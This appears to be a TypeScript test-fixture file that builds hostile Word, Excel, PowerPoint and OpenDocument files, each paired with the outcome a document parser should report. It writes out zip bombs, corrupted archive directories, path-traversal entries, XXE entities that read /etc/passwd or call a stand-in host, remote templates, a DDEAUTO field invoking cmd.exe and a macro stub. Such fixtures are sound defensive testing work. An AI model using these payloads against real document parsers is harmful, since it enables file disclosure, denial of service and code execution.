import { openDocumentFile, sheetFile, slideFile, wordFile, zipOf } from '../document-files.ts';
import { type HostileFile, times } from './hostile-file.ts';

export const word = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const document = (text: string): string => `<w:document><w:body>${word(text)}</w:body></w:document>`;
const CELL = '<row><c><v>1</v></c></row>';
const sheet = (rows: string, more: Readonly<Record<string, string>> = {}): Buffer =>
  sheetFile([['S', 'visible', rows]], more);
const relation = (target: string, mode = ''): string =>
  `<Relationships><Relationship Id="r" Type="x/worksheet" Target="${target}"${mode}/></Relationships>`;
const ONE_SHEET = '<workbook><sheets><sheet name="a" r:id="r"/></sheets></workbook>';
const REPEATED =
  '<table:table-row><table:table-cell table:number-columns-repeated="999999999"><text:p>x</text:p></table:table-cell></table:table-row>';

/** Bombs and broken frames: what is wrong is the archive. */
function frames(): HostileFile[] {
  const blanks = Buffer.alloc(120_000_000, ' ');
  const text = blanks.toString('latin1');
  const good = zipOf({ 'word/document.xml': document('x') });
  const central = good.indexOf('PK\x01\x02');
  const changed = (at: number, value: number): Buffer => {
    const bytes = Buffer.from(good);
    bytes.writeUInt32LE(value, at);
    return bytes;
  };
  return [
    ['a bomb by ratio in a Word file', zipOf({ 'word/document.xml': blanks }), 'too_large'],
    ['a bomb in the styles of a sheet', sheet(CELL, { 'xl/styles.xml': text }), 'too_large'],
    ['a bomb in the shared strings', sheet(CELL, { 'xl/sharedStrings.xml': text }), 'too_large'],
    [
      'a bomb in a sheet',
      zipOf({
        'xl/workbook.xml': ONE_SHEET,
        'xl/_rels/workbook.xml.rels': relation('a.xml'),
        'xl/a.xml': blanks,
      }),
      'too_large',
    ],
    ['a bomb in the notes of a slide', slideFile(['<p:sld/>'], text), 'too_large'],
    [
      'a bomb in the footnotes of a Word file',
      wordFile(word('x'), { 'word/footnotes.xml': text }),
      'too_large',
    ],
    ['a bomb in an OpenDocument file', openDocumentFile('text', text), 'too_large'],
    [
      'a bomb in a picture that is not read',
      zipOf({ 'word/document.xml': document('x'), 'word/media/a.png': blanks }),
      'ready',
    ],
    [
      '2,001 entries',
      zipOf(Object.fromEntries(Array.from({ length: 2001 }, (_, i) => [`e${i}`, '']))),
      'too_large',
    ],
    ['an archive in an archive', zipOf({ 'a.zip': zipOf({ 'b.zip': 'x' }) }), 'unsupported'],
    ['a Word file in an archive', zipOf({ 'a.docx': good }), 'unsupported'],
    [
      'a size that is four gigabytes',
      zipOf({ 'word/document.xml': document('x') }, { packed: 4_000_000_000 }),
      'ready',
    ],
    [
      'a size that is smaller than it is',
      zipOf({ 'word/document.xml': document('x') }, { packed: 3 }),
      'failed',
    ],
    ['an unknown method', zipOf({ 'word/document.xml': document('x') }, { method: 99 }), 'failed'],
    ['encrypted entries', zipOf({ 'word/document.xml': document('x') }, { flags: 1 }), 'encrypted'],
    ['an entry that begins behind the end', changed(central + 42, 4_000_000_000), 'failed'],
    ['an entry that begins in the directory', changed(central + 42, central), 'failed'],
    ['a directory that begins behind the end', changed(good.length - 6, 4_000_000_000), 'failed'],
    [
      '65,535 entries that are not there',
      Buffer.concat([good.subarray(0, -12), Buffer.from([255, 255, 255, 255]), good.subarray(-8)]),
      'too_large',
    ],
    ['an end of the directory only', Buffer.from('PK\x03\x04PK\x05\x06', 'latin1'), 'failed'],
    ['no directory', good.subarray(0, central), 'failed'],
    [
      'an entry named as a path outside',
      zipOf({ '../../../../etc/passwd': 'x', 'word/document.xml': document('x') }),
      'ready',
    ],
    [
      'an entry named __proto__',
      zipOf({ ['__proto__']: 'x', constructor: 'y', 'word/document.xml': document('x') }),
      'ready',
    ],
    ['a program before the archive', Buffer.concat([Buffer.from('MZ\x90\0'), good]), 'unsupported'],
    [
      'a compound file with a package',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
      'encrypted',
    ],
    [
      'a compound file with a macro',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('_VBA_PROJECT', 'utf16le')]),
      'unsupported',
    ],
  ];
}

function markup(): HostileFile[] {
  const entities = `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(1000)}"><!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://x.test/"> %d;]>`;
  const outside = ' TargetMode="External"';
  return [
    ['nesting', wordFile('<w:p>'.repeat(100_000)), 'failed'],
    ['tables in tables', wordFile('<w:tbl><w:tr><w:tc>'.repeat(160) + word('x')), 'ready'],
    [
      'entities',
      zipOf({ 'word/document.xml': `${entities}<w:document>${word('&b;&c;')}</w:document>` }),
      'ready',
    ],
    [
      'entities in a sheet',
      zipOf({
        'xl/workbook.xml': entities + ONE_SHEET,
        'xl/_rels/workbook.xml.rels': relation('a.xml'),
        'xl/a.xml': `${entities}<row><c t="str"><v>&c;</v></c></row>`,
      }),
      'ready',
    ],
    [
      'an included file',
      wordFile(`<xi:include href="file:///etc/passwd" parse="text"/>${word('x')}`),
      'ready',
    ],
    [
      'a part from elsewhere',
      wordFile(`<w:altChunk r:id="r"/>${word('x')}`, {
        'word/_rels/document.xml.rels': relation('http://x.test/', outside),
      }),
      'ready',
    ],
    [
      'a template from elsewhere',
      wordFile(word('x'), { 'word/_rels/settings.xml.rels': relation('http://x.test/t.dotm', outside) }),
      'ready',
    ],
    [
      'a field that runs a program',
      wordFile(`<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>${word('x')}`),
      'ready',
    ],
    [
      'a sheet from elsewhere',
      zipOf({
        'xl/workbook.xml': ONE_SHEET,
        'xl/_rels/workbook.xml.rels': relation('http://x.test/', outside),
      }),
      'no_text',
    ],
    [
      'a sheet outside of the archive',
      zipOf({
        'xl/workbook.xml': ONE_SHEET,
        'xl/_rels/workbook.xml.rels': relation('../../../../etc/passwd'),
      }),
      'no_text',
    ],
    [
      '5,000 sheets that are the workbook',
      zipOf({
        'xl/workbook.xml': '<sheet name="a" r:id="r"/>'.repeat(5000),
        'xl/_rels/workbook.xml.rels': relation('workbook.xml'),
      }),
      'ready',
    ],
    ['a formula that calls', sheet('<row><c><f>WEBSERVICE("http://x.test")</f><v>1</v></c></row>'), 'ready'],
    ['100,000 attributes', wordFile(`<w:p ${times(100_000, (i) => `a${i}="1" `)}/>`), 'no_text'],
    ['600,000 rows', sheet(CELL.repeat(600_000)), 'too_large'],
    [
      '16,384 columns',
      sheet(`<row>${times(16_384, (i) => `<c r="${column(i)}1"><v>${i}</v></c>`)}</row>`),
      'ready',
    ],
    [
      'a column that is far away',
      sheet('<row r="99999999"><c r="ZZZZZZZ99999999"><v>1</v></c></row>'),
      'ready',
    ],
    [
      'strings that are far away',
      sheet('<row><c t="s"><v>99999999999</v></c><c t="s"><v>-1</v></c></row>'),
      'ready',
    ],
    [
      'a billion shared strings',
      sheet('<row><c t="s"><v>0</v></c></row>', {
        'xl/sharedStrings.xml': '<sst count="1000000000" uniqueCount="1000000000"><si><t>x</t></si></sst>',
      }),
      'ready',
    ],
    [
      'one long string in 100,000 cells',
      sheet('<row><c t="s"><v>0</v></c></row>'.repeat(30_000), {
        'xl/sharedStrings.xml': `<si><t>${times(3_000, (i) => `${i * 7919} `)}</t></si>`,
      }),
      'ready',
    ],
    [
      '10,000 rows below 256 columns',
      sheet(`<row>${times(256, (i) => `<c r="${column(i)}1"><v>1</v></c>`)}</row>${CELL.repeat(20_000)}`),
      'ready',
    ],
    [
      'dates that are none',
      sheet('<row><c s="0"><v>1e308</v></c><c s="0"><v>NaN</v></c></row>', {
        'xl/styles.xml': '<cellXfs><xf numFmtId="14"/></cellXfs>',
      }),
      'ready',
    ],
    [
      'a number format without end',
      sheet('<row><c s="0"><v>1</v></c></row>', {
        'xl/styles.xml': `<numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(100_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>`,
      }),
      'ready',
    ],
    [
      'columns repeated without end',
      openDocumentFile(
        'spreadsheet',
        `<office:spreadsheet><table:table table:name="a">${REPEATED.repeat(5000)}</table:table></office:spreadsheet>`,
      ),
      'ready',
    ],
    [
      'rows repeated without end',
      openDocumentFile(
        'spreadsheet',
        '<office:spreadsheet><table:table table:name="a"><table:table-row table:number-rows-repeated="999999999"><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>',
      ),
      'ready',
    ],
    [
      'blanks repeated without end',
      openDocumentFile(
        'text',
        `<office:text><text:p>x${'<text:s text:c="999999999"/>'.repeat(50_000)}</text:p></office:text>`,
      ),
      'too_large',
    ],
    [
      '5,000 slides',
      slideFile(Array.from({ length: 1_990 }, () => '<p:sld><a:p><a:r><a:t>x</a:t></a:r></a:p></p:sld>')),
      'ready',
    ],
    ['tags that end nothing', wordFile('</w:p></w:tbl></w:tc>'.repeat(40_000)), 'no_text'],
    ['a macro', wordFile(word('x'), { 'word/vbaProject.bin': 'Sub AutoOpen()' }), 'ready'],
    [
      'an object in it',
      wordFile(`<w:object><o:OLEObject r:id="r"/></w:object>${word('x')}`, { 'word/embeddings/a.bin': 'MZ' }),
      'ready',
    ],
    ['no XML', wordFile('<'.repeat(200_000)), 'no_text'],
    ['half a tag', wordFile('<w:p><w:r><w:t'), 'no_text'],
    ['a name of a million characters', wordFile(`<${'n'.repeat(1_000_000)}>`), 'too_large'],
    ['a comment without end', wordFile(`<!--${'-'.repeat(500_000)}`), 'no_text'],
    ['CDATA without end', wordFile(`<![CDATA[${']]'.repeat(200_000)}`), 'no_text'],
    ['half a character in UTF-16', zipOf({ 'word/document.xml': Buffer.from('fffe3c', 'hex') }), 'no_text'],
  ].map(([name, ...rest]) => [`a document with ${name}`, ...rest] as unknown as HostileFile);
}

function column(index: number): string {
  return (index >= 26 ? column(Math.floor(index / 26) - 1) : '') + String.fromCharCode(65 + (index % 26));
}

export const archives = (): readonly HostileFile[] => [
  ...frames().map(([name, ...rest]) => [`an archive: ${name}`, ...rest] as unknown as HostileFile),
  ...markup(),
];
